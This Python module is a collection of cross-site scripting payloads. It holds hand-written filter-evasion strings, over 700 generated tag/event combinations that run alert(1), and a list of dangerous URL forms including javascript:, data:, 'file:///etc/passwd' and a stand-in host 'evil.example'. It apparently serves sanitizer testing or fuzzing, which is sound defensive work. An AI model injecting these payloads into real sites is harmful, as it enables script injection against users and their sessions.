"""Texts that run `alert` in a page that takes them for markup, in the ways that filters are known to miss."""

from __future__ import annotations

from itertools import product

_WHOLE = (
    "<script>alert(1)</script>", "'-alert(1)-'", "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<details open ontoggle=alert(1)>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "</textarea><script>alert(1)</script>",
    "<video><source onerror=alert(1)>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
    "<%= alert(1) %>", "&lt;img src=x onerror=alert(1)&gt;", "\\u003cimg src=x onerror=alert(1)\\u003e",
    "![x](javascript:alert(1))", "[x](javascript:alert(1))", "`<img src=x onerror=alert(1)>`",
    "<template><img src=x onerror=alert(1)></template>", "<img src=x\u0000onerror=alert(1)>",
    "<\u0000script>alert(1)</script>", "<style>@import 'javascript:alert(1)'</style>",
    "<base href='javascript:/a/-alert(1)//'>", "<form action=javascript:alert(1)><button autofocus>",
    "<object data='javascript:alert(1)'>", "<embed src='javascript:alert(1)'>",
    "</script><script>alert(1)</script>", "<!--<img src='--><img src=x onerror=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='javascript:alert(1)'>", "$\\unicode[onclick=alert(1)]{x}$",
    "<b onmouseover=alert(1)>b</b><a href='javascript:alert(1)'>a</a>", "=HYPERLINK(\"javascript:alert(1)\")",
)  # fmt: skip
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "video src=x",
    "audio src=x",
    "marquee",
    "select autofocus",
)
_EVENTS = ("onerror", "onload", "onfocus", "onstart", "onloadstart", "onpointerenter")
_BEFORE = ("", '">', "'>", "--><", "</title>")
_SPACES = (" ", "/", "\t")
PAYLOADS = _WHOLE + tuple(
    f"{before}<{tag}{space}{event}=alert(1)>"
    for before, tag, event, space in product(_BEFORE, _TAGS, _EVENTS, _SPACES)
)
"""More than 700 of them, each its own attack."""

ADDRESSES = (
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    " javascript:alert(1)", "\x01javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)", "feed:javascript:alert(1)", "//evil.example/x", "file:///etc/passwd",
)  # fmt: skip
